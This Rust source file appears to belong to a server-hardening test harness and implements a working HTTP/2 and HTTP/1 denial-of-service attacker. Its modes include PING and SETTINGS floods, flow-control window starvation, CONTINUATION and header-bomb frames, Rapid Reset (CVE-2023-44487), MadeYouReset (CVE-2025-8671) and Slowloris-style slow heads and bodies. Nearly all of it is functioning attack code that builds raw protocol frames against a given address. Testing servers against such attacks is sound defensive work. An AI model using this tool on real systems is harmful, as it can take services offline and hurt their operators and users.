//! What an attacker does, and what came of it.

use std::io;
use std::net::SocketAddr;
use std::sync::Mutex;
use std::sync::PoisonError;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use clap::{Args, ValueEnum};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;
use tokio::time::{sleep, timeout_at};

use super::frames::{BEGIN, field, fields, frame, request, stream};

/// Bytes that are put together before they are written.
const BATCH: usize = 16 * 1024;
/// Between two parts of what a slow client sends.
const DRIP: Duration = Duration::from_secs(2);
/// How many slow clients connect in a second.
const ARRIVALS: u64 = 2000;

/// One kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
pub(super) enum Attack {
    /// PING, which wants an answer.
    Ping,
    /// SETTINGS, which wants one too, with a window that changes under a hundred streams.
    Settings,
    /// PRIORITY, which means nothing any more.
    Priority,
    /// WINDOW_UPDATE of one byte each, for a hundred streams with a megabyte behind a closed window.
    TinyWindows,
    /// A hundred streams with a megabyte each and no window at all.
    ClosedWindows,
    /// A hundred streams with a megabyte each and all the window there is, on a connection from which nothing is read.
    Unread,
    /// DATA with nothing in it.
    EmptyData,
    /// A head that goes on and on in CONTINUATION.
    Continuation,
    /// One long field, named thousands of times by a byte each.
    HeaderBomb,
    /// Requests that are reset at once, as many as go into a write (CVE-2023-44487).
    RapidReset,
    /// Requests that are reset a moment later, each when it has been seen.
    PacedReset,
    /// Requests that make the server reset them (CVE-2025-8671).
    MadeYouReset,
    /// Heads of which a byte comes now and then, half of them over each protocol.
    SlowHeads,
    /// Bodies of which a byte comes now and then, half of them over each protocol.
    SlowBodies,
}

impl Attack {
    /// Whether its clients send little rather than much.
    pub(super) fn is_slow(self) -> bool {
        matches!(self, Self::SlowHeads | Self::SlowBodies)
    }

    /// Its name on the command line.
    pub(super) fn name(self) -> String {
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }
}

/// Attack an address, once a line comes on standard input.
#[derive(Debug, Args)]
pub struct Attacker {
    attack: Attack,
    #[arg(long)]
    entry: SocketAddr,
    #[arg(long)]
    host: String,
    #[arg(long)]
    connections: usize,
    #[arg(long)]
    seconds: u64,
}

/// What came of it.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub(super) struct Outcome {
    /// Connections that were opened.
    pub opened: u64,
    /// Of those, how many the other side ended: the connection, or the one request on it.
    pub closed: u64,
    /// Bytes that were sent.
    pub bytes: u64,
    /// Seconds from the start until the last one was ended, of slow clients.
    pub last_closed_seconds: f64,
}

#[derive(Debug, Default)]
struct Tally {
    opened: AtomicU64,
    closed: AtomicU64,
    bytes: AtomicU64,
    last: Mutex<Duration>,
}

impl Attacker {
    /// Carries it out, and writes the [`Outcome`] to standard output.
    ///
    /// # Errors
    /// When nobody says to begin.
    pub fn run(self) -> Result<()> {
        let mut line = String::new();
        ensure!(io::stdin().read_line(&mut line)? > 0, "nobody said to begin");
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let outcome = runtime.block_on(self.attack());
        println!("{}", serde_json::to_string(&outcome)?);
        Ok(())
    }

    async fn attack(self) -> Outcome {
        let tally = Tally::default();
        let began = Instant::now();
        let end = began + Duration::from_secs(self.seconds);
        let this = &self;
        let one = async |number: usize| {
            if this.attack.is_slow() {
                sleep(Duration::from_secs_f64(number as f64 / ARRIVALS as f64)).await;
                this.slow(number, &tally, began).await
            } else {
                loop {
                    if this.flood(&tally).await.is_err() {
                        sleep(Duration::from_millis(1)).await;
                    }
                }
            }
        };
        let all = futures::future::join_all((0..self.connections).map(one));
        // The end of time is how a flood ends.
        let _ = timeout_at(end.into(), all).await;
        Outcome {
            opened: tally.opened.load(Ordering::Relaxed),
            closed: tally.closed.load(Ordering::Relaxed),
            bytes: tally.bytes.load(Ordering::Relaxed),
            last_closed_seconds: tally.last.lock().unwrap_or_else(PoisonError::into_inner).as_secs_f64(),
        }
    }

    /// One connection, for as long as it is there.
    async fn flood(&self, tally: &Tally) -> io::Result<()> {
        let stream = TcpStream::connect(self.entry).await?;
        stream.set_nodelay(true)?;
        tally.opened.fetch_add(1, Ordering::Relaxed);
        let (mut read, mut write) = stream.into_split();
        // Answers are taken, so that nothing stands in the way of more.
        let read = async {
            if self.attack == Attack::Unread {
                std::future::pending::<()>().await;
            }
            let mut waste = vec![0; 64 * 1024];
            while let Ok(1..) = read.read(&mut waste).await {}
        };
        tokio::select! {
            () = read => {}
            _ = self.write(&mut write, tally) => {}
        }
        tally.closed.fetch_add(1, Ordering::Relaxed);
        Ok(())
    }

    async fn write(&self, write: &mut OwnedWriteHalf, tally: &Tally) -> io::Result<()> {
        let mut send = async |bytes: &[u8]| {
            write.write_all(bytes).await?;
            tally.bytes.fetch_add(bytes.len() as u64, Ordering::Relaxed);
            io::Result::Ok(())
        };
        let (begin, noise) = self.frames();
        send(BEGIN).await?;
        send(&begin).await?;
        if !noise.is_empty() {
            let batch = noise.repeat((BATCH / noise.len()).max(1));
            loop {
                send(&batch).await?;
            }
        }
        let reset = |number| frame(3, 0, stream(number), &[0, 0, 0, 8]);
        for number in 0.. {
            let head = request(stream(number), 5, &self.host, "/sleep?ms=1000");
            match self.attack {
                Attack::RapidReset => send(&[head, reset(number)].concat()).await?,
                Attack::PacedReset => {
                    send(&head).await?;
                    sleep(Duration::from_millis(1)).await;
                    send(&reset(number)).await?;
                }
                Attack::MadeYouReset => {
                    let overflow = frame(8, 0, stream(number), &[0x7f, 0xff, 0xff, 0xff]);
                    send(&[request(stream(number), 4, &self.host, "/upload"), overflow].concat()).await?;
                }
                // What there was to send is sent; the connection stays.
                _ => return std::future::pending().await,
            }
        }
        Ok(())
    }

    /// What is sent at first, and what over and over again.
    fn frames(&self) -> (Vec<u8>, Vec<u8>) {
        let window = |bytes: u32| frame(4, 0, 0, &[&[0, 4], bytes.to_be_bytes().as_slice()].concat());
        let large = || (0..100).flat_map(|number| request(stream(number), 5, &self.host, "/bytes?n=1000000")).collect();
        match self.attack {
            Attack::Ping => (Vec::new(), frame(6, 0, 0, &[0; 8])),
            Attack::Settings => {
                let begin = [window(0), large()].concat();
                (begin, [window(0), window(1)].concat())
            }
            Attack::Priority => (Vec::new(), frame(2, 0, 1, &[0, 0, 0, 3, 9])),
            Attack::TinyWindows => {
                let tiny = (0..100).flat_map(|number| frame(8, 0, stream(number), &[0, 0, 0, 1])).collect();
                ([window(0), large()].concat(), tiny)
            }
            Attack::Unread => {
                let open = frame(8, 0, 0, &0x7000_0000_u32.to_be_bytes());
                ([window(0x7fff_ffff), open, large()].concat(), Vec::new())
            }
            Attack::ClosedWindows => ([window(1), large()].concat(), Vec::new()),
            Attack::EmptyData => (request(1, 4, &self.host, "/upload"), frame(0, 0, 1, &[])),
            Attack::Continuation => (request(1, 1, &self.host, "/"), frame(9, 0, 1, &field("a", &"b".repeat(100)))),
            Attack::HeaderBomb => {
                let known = [vec![0x40], field("a", &"v".repeat(100))[1..].to_vec()].concat();
                let first = frame(1, 5, 1, &[fields("GET", &self.host, "/"), known].concat());
                let many = |number| {
                    frame(1, 5, stream(number), &[fields("GET", &self.host, "/"), vec![0xbe; 16_000]].concat())
                };
                (first, (1..100).flat_map(many).collect())
            }
            _ => (Vec::new(), Vec::new()),
        }
    }

    /// One client that takes its time, until it is sent away.
    async fn slow(&self, number: usize, tally: &Tally, began: Instant) {
        let http2 = number % 2 == 1;
        let begin = match (self.attack, http2) {
            (Attack::SlowHeads, false) => format!("GET / HTTP/1.1\r\nhost: {}\r\nx-long: ", self.host).into_bytes(),
            (Attack::SlowHeads, true) => {
                let whole = request(1, 5, &self.host, &"/".repeat(100));
                [BEGIN, &whole[..whole.len() - 100]].concat()
            }
            (_, false) => {
                let head = "content-length: 1000000\r\n\r\n";
                format!("POST /upload HTTP/1.1\r\nhost: {}\r\n{head}", self.host).into_bytes()
            }
            (_, true) => {
                let head = frame(1, 4, 1, &fields("POST", &self.host, "/upload"));
                [BEGIN, &head, &frame(0, 0, 1, &[0; 1000])[..9]].concat()
            }
        };
        let Ok(stream) = TcpStream::connect(self.entry).await else { return };
        tally.opened.fetch_add(1, Ordering::Relaxed);
        let (mut read, mut write) = stream.into_split();
        let drip = async {
            let mut next = begin;
            while write.write_all(&next).await.is_ok() {
                tally.bytes.fetch_add(next.len() as u64, Ordering::Relaxed);
                next = b"x".to_vec();
                sleep(DRIP).await;
            }
        };
        tokio::select! {
            () = sent_away(&mut read, http2) => {}
            () = drip => {}
        }
        tally.closed.fetch_add(1, Ordering::Relaxed);
        let mut last = tally.last.lock().unwrap_or_else(PoisonError::into_inner);
        *last = last.max(began.elapsed());
    }
}

/// Until the connection ends or the one request on it is answered: over HTTP/1 by any byte, over HTTP/2 by HEADERS or
/// RST_STREAM.
async fn sent_away(read: &mut tokio::net::tcp::OwnedReadHalf, http2: bool) {
    loop {
        let mut header = [0; 9];
        if !http2 {
            let _ = read.read(&mut header).await;
            return;
        }
        if read.read_exact(&mut header).await.is_err() || matches!(header[3], 1 | 3) {
            return;
        }
        let [_, l1, l2, ..] = header;
        let mut payload = vec![0; usize::from(u16::from_be_bytes([l1, l2]))];
        if read.read_exact(&mut payload).await.is_err() {
            return;
        }
    }
}
